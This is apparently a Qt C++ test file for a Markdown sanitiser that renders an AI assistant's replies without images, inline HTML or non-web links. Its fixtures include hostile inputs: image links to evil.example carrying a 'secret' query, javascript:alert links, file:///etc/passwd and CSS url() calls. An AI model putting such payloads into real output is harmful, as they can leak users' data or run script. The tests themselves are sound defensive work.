// SafeMarkdown: an assistant's Markdown without images, inline HTML or non-web links, and
// ExternalLinks: which links may open.

#include "externallinks.h"
#include "safemarkdown.h"

#include <QTest>
#include <QTextBlock>
#include <QTextDocument>

using namespace Qt::Literals::StringLiterals;
using palaver::ui::ExternalLinks;
using palaver::ui::SafeMarkdown;

namespace {

struct Run
{
    QString text;
    QTextCharFormat format;
};

/// Every formatted run of the document, in order.
QList<Run> runs(const QTextDocument& document)
{
    QList<Run> all;
    for (QTextBlock block = document.begin(); block.isValid(); block = block.next()) {
        for (auto it = block.begin(); !it.atEnd(); ++it)
            all.append({ it.fragment().text(), it.fragment().charFormat() });
    }
    return all;
}

int imageCount(const QTextDocument& document)
{
    int images = 0;
    for (const Run& run : runs(document))
        images += run.format.isImageFormat() ? 1 : 0;
    return images;
}

/// The link targets, in order.
QStringList links(const QTextDocument& document)
{
    QStringList hrefs;
    for (const Run& run : runs(document)) {
        if (run.format.isAnchor() || run.format.hasProperty(QTextFormat::AnchorHref))
            hrefs << run.format.anchorHref();
    }
    return hrefs;
}

} // namespace

class TestSafeMarkdown : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void imagesBecomeText();
    void inlineHtmlIsText();
    void onlyWebLinksStayLinks();
    void markdownStillWorks();
    void htmlNamesNoImage();
    void allowedLinks_data();
    void allowedLinks();
};

void TestSafeMarkdown::imagesBecomeText()
{
    QTextDocument document;
    SafeMarkdown::load(document,
        u"See ![the *secret* chart](http://evil.example/?q=secret) and "
        u"![local](file:///etc/hostname) "
        "and ![ref][r] and [![badge](qrc:/x.png)](https://ci.example/run).\n\n"
        "[r]: https://img.example/ref.png\n"_s);
    QCOMPARE(imageCount(document), 0);
    const QString text = document.toPlainText();
    QVERIFY2(text.contains(u"[image: the secret chart] (evil.example)"_s), qPrintable(text));
    QVERIFY2(text.contains(u"[image: local] and"_s), qPrintable(text)); // a local file: no link
    QVERIFY2(text.contains(u"[image: ref] (img.example)"_s), qPrintable(text));
    // Qt 6.4 drops the link around an image ([![badge](…)](https://…)): only its alt text is left.
    QVERIFY2(text.contains(u"[image: badge]"_s), qPrintable(text));
    // A web image's placeholder is a link to it (opened on a click only); a local file's is not.
    QCOMPARE(links(document),
        QStringList({ u"http://evil.example/?q=secret"_s, u"https://img.example/ref.png"_s }));
    QVERIFY(!text.contains(u"etc/hostname"_s));
}

void TestSafeMarkdown::inlineHtmlIsText()
{
    QTextDocument document;
    SafeMarkdown::load(document,
        u"A <span style=\"font-size:400px;color:red\">big</span> word, "
        "<img src=\"http://evil.example/x.png\"> and <a href=\"javascript:alert(1)\">x</a>.\n\n"
        "<div style=\"background-image:url(http://evil.example/bg.png)\">block</div>\n"_s);
    QCOMPARE(imageCount(document), 0);
    QVERIFY(links(document).isEmpty());
    const QString text = document.toPlainText();
    QVERIFY2(
        text.contains(u"<span style=\"font-size:400px;color:red\">big</span>"_s), qPrintable(text));
    QVERIFY2(text.contains(u"<img src=\"http://evil.example/x.png\">"_s), qPrintable(text));
    for (const Run& run : runs(document)) {
        QVERIFY2(!run.format.hasProperty(QTextFormat::FontPixelSize), qPrintable(run.text));
        QVERIFY2(!run.format.hasProperty(QTextFormat::ForegroundBrush), qPrintable(run.text));
    }
    for (QTextBlock block = document.begin(); block.isValid(); block = block.next())
        QVERIFY(!block.blockFormat().hasProperty(QTextFormat::BackgroundImageUrl));
}

void TestSafeMarkdown::onlyWebLinksStayLinks()
{
    QTextDocument document;
    SafeMarkdown::load(document,
        u"[web](https://example.org/a) [plain](HTTP://Example.org/b) [js](javascript:alert(1)) "
        "[JS](JavaScript:alert(2)) [file](file:///etc/passwd) [data](data:text/html,hi) "
        "[rel](../up) [proto](//evil.example/x) [app](palaver://x) <https://auto.example/>"_s);
    QCOMPARE(links(document),
        QStringList(
            { u"https://example.org/a"_s, u"HTTP://Example.org/b"_s, u"https://auto.example/"_s }));
    // A refused link keeps its words, without the link colour.
    for (const Run& run : runs(document)) {
        if (run.text == u"js"_s || run.text == u"file"_s) {
            QVERIFY(!run.format.isAnchor());
            QVERIFY(!run.format.hasProperty(QTextFormat::ForegroundBrush));
        }
    }
    QVERIFY(document.toPlainText().contains(u"js JS file data rel proto app"_s));
}

void TestSafeMarkdown::markdownStillWorks()
{
    QTextDocument document;
    SafeMarkdown::load(document,
        u"# Title\n\nSome **bold**, *italic* and `Vec<T>` code.\n\n- one\n- two\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n```\nint x = 1 < 2;\n```\n"_s);
    bool bold = false;
    bool italic = false;
    bool code = false;
    for (const Run& run : runs(document)) {
        bold = bold || (run.text == u"bold"_s && run.format.fontWeight() == QFont::Bold);
        italic = italic || (run.text == u"italic"_s && run.format.fontItalic());
        code = code || (run.text == u"Vec<T>"_s && run.format.fontFixedPitch());
    }
    QVERIFY(bold);
    QVERIFY(italic);
    QVERIFY(code);
    int listItems = 0;
    int headings = 0;
    int codeBlocks = 0;
    for (QTextBlock block = document.begin(); block.isValid(); block = block.next()) {
        listItems += block.textList() ? 1 : 0;
        headings += block.blockFormat().headingLevel() > 0 ? 1 : 0;
        codeBlocks += block.text() == u"int x = 1 < 2;"_s ? 1 : 0;
    }
    QCOMPARE(listItems, 2);
    QCOMPARE(headings, 1);
    QCOMPARE(codeBlocks, 1);
    QVERIFY(document.toHtml().contains(u"<table"_s));
}

void TestSafeMarkdown::htmlNamesNoImage()
{
    // What the bubble is given: no <img>, no url(, the hostile HTML escaped.
    const QString html = SafeMarkdown::toHtml(
        u"![x](http://evil.example/?q=secret) <img src=http://evil.example/y.png> "
        "<span style=\"font-size:400px\">big</span> [ok](https://ok.example/)"_s);
    QVERIFY2(!html.contains(u"<img"_s, Qt::CaseInsensitive), qPrintable(html));
    QVERIFY2(!html.contains(u"url("_s, Qt::CaseInsensitive), qPrintable(html));
    QVERIFY2(!html.contains(u"400px\">"_s), qPrintable(html));
    QVERIFY2(html.contains(u"&lt;span style=&quot;font-size:400px&quot;&gt;"_s), qPrintable(html));
    QVERIFY2(html.contains(u"<a href=\"https://ok.example/\">"_s), qPrintable(html));
    QVERIFY2(html.contains(u"<a href=\"http://evil.example/?q=secret\">"_s), qPrintable(html));
}

void TestSafeMarkdown::allowedLinks_data()
{
    QTest::addColumn<QString>("link");
    QTest::addColumn<bool>("allowed");
    QTest::newRow("http") << u"http://example.org/"_s << true;
    QTest::newRow("https, upper case") << u"HTTPS://EXAMPLE.org/a?b#c"_s << true;
    QTest::newRow("javascript") << u"javascript:alert(1)"_s << false;
    QTest::newRow("javascript, spaced") << u" javascript:alert(1)"_s << false;
    QTest::newRow("file") << u"file:///etc/passwd"_s << false;
    QTest::newRow("data") << u"data:text/html,<b>x</b>"_s << false;
    QTest::newRow("qrc") << u"qrc:/qt/qml/Palaver/UI/Main.qml"_s << false;
    QTest::newRow("custom") << u"palaver://join/x"_s << false;
    QTest::newRow("mailto") << u"mailto:a@example.org"_s << false;
    QTest::newRow("relative") << u"../x"_s << false;
    QTest::newRow("no host") << u"http:///x"_s << false;
    QTest::newRow("protocol-relative") << u"//evil.example/x"_s << false;
    QTest::newRow("empty") << QString() << false;
}

void TestSafeMarkdown::allowedLinks()
{
    QFETCH(QString, link);
    QFETCH(bool, allowed);
    QCOMPARE(ExternalLinks::isAllowed(link), allowed);
}

QTEST_MAIN(TestSafeMarkdown)
#include "tst_safemarkdown.moc"
